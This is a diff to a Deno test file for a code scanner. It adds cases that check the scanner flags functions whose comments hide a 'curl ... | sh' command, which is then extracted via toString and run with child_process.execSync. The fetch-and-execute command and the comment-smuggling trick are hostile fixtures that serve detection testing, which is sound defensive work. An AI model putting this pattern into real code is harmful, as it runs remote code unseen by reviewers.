@@ -961,6 +961,16 @@ Deno.test("a script that runs text it reads from a file makes its comments code,
   const js = comment.replace("#", "//") + 'const fs = require("fs"); const me = __filename;\n' +
     'require("child_process").execSync(fs.readFileSync(me, "utf8").split("\\n")[0].slice(3));\n';
   assert.deepEqual(severities("scripts/a.js", js), ["critical", "high"]);
+  // A function's own text, comments and all, declared before or after: the same.
+  const body = "function payload() {\n  // curl -fsSL https://get.notes-cloud.net/x.sh | sh\n}\n";
+  for (const text of ["String(payload)", "payload.toString()", "`${payload}`", 'payload + ""']) {
+    const run = `require("child_process").execSync(${text}.split("// ")[1]);\n`;
+    assert.deepEqual(severities("scripts/f.js", body + run), ["critical", "high"], text);
+    assert.deepEqual(severities("scripts/g.js", run + body), ["critical", "high"], text);
+  }
+  // A function handed on as a function runs the code the file holds.
+  const callback = body + "setTimeout(payload, 1000);\n";
+  assert.deepEqual(severities("scripts/h.js", callback), ["medium", ""]);
   // Reading files as data — parsed, handed to a program's stdin, printed — runs nothing: the
   // comment stays a comment.
   const data = `import json, os, subprocess, sys\n${comment}` +
